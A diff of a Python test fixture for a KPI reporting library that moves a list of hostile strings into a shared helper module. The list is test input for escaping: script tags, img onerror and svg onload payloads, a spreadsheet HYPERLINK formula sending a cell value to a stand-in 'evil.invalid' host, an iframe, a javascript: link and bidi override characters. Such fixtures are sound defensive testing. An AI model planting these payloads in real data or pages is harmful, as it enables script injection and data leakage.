@@ -2,60 +2,17 @@
 
 from __future__ import annotations
 
-from itertools import cycle, islice
 from pathlib import Path
-
-import polars as pl
 
 from kpi_lib.examples.synthetic import write_company
 from kpi_lib.settings import Settings, load_settings
-
-TEXTS = (
-    "<b>Bold</b> & \"Sons\" 'Ltd'",
-    "<script>document.title = 'it ran'</script>",
-    '"><img src=x onerror=alert(1)><svg onload=alert(2)>',
-    '=HYPERLINK("https://evil.invalid/?"&A1)',
-    "Override \u202eevil\u202c and mark \u200f here",
-    "Three hundred " + "unbreakable" * 26,
-    "🧱🏗️ Ziegel & Söhne 👩‍👩‍👧‍👦",
-    "Two\nlines\r\nand\ta tab",
-    "{{ 7 * 7 }} {% raw %} $x^2$ `code` **bold** [link](javascript:alert(3))",
-    "</style></title></main><iframe src=//evil.invalid>",
-    "مؤسسة الشراكة שותפים",
-    "&lt;b&gt;typed as entities&lt;/b&gt; &amp;copy;",
-)
-# What is free text in the contract; periods, currencies and names of KPIs are not.
-COLUMNS = {
-    "partners": ("name", "tier", "segment", "region", "branch", "manager"),
-    "customers": ("segment",),
-    "touchpoints": ("kind",),
-    "surveys": ("comment",),
-    "training": ("course",),
-    "solutions": ("name",),
-    "milestones": ("project",),
-    "resources": ("project",),
-    "markets": ("name",),
-    "objectives": ("title", "owner"),
-    "partner_reported": ("owner",),
-}
-HAVE_A_PAGE = ("branch", "manager")  # each makes one; three of each are enough
+from tests.hostile_texts import TEXTS, write_hostile_texts
 
 
 def hostile(folder: Path) -> Settings:
     """Lay the company down in a folder and return its settings, hostile as well."""
     data = write_company(folder / "data", partners=len(TEXTS), orders=4_000, seed=3)
-    for table, columns in COLUMNS.items():
-        file = data / f"{table}.parquet"
-        frame = pl.read_parquet(file)
-        for shift, name in enumerate(columns):
-            several = TEXTS[shift : shift + 3] if name in HAVE_A_PAGE else TEXTS
-            texts = islice(cycle(several), shift, shift + frame.height)
-            # A name is needed; of everything else, some of it is empty.
-            column = pl.Series(name, list(texts))
-            kept = column if name in ("name", "course", "project") else _some_empty(column)
-            frame = frame.with_columns(kept)
-        frame.write_parquet(file)
-    _let_tiers_have_targets(data)
+    write_hostile_texts(data)
     note = folder / "params" / "notes" / "P0001"
     note.mkdir(parents=True)
     for period in ("2026-Q3", "2026-Q2"):
@@ -65,22 +22,3 @@ def hostile(folder: Path) -> Settings:
         "data: ../data\ncompany:\n  name: '<script>alert(4)</script> & Co.'\n", encoding="utf-8"
     )
     return load_settings(settings)
-
-
-def _let_tiers_have_targets(data: Path) -> None:
-    """Give the targets of tiers to the tiers that there are now: one of nobody is a fault."""
-    file, tiers = data / "targets.parquet", [text for text in TEXTS if text.strip()]
-    frame = pl.read_parquet(file)
-    there = pl.read_parquet(data / "partners.parquet")["tier"]
-    new = dict(
-        zip(frame.filter(scope="tier")["entity"].unique(maintain_order=True), tiers, strict=False)
-    )
-    assert set(new.values()) <= set(there)
-    entity = pl.when(pl.col("scope") == "tier").then(pl.col("entity").replace(new))
-    frame.with_columns(entity=entity.otherwise(pl.col("entity"))).write_parquet(file)
-
-
-def _some_empty(column: pl.Series) -> pl.Series:
-    return pl.Series(
-        column.name, ["" if row % 13 == 12 else text for row, text in enumerate(column)]
-    )
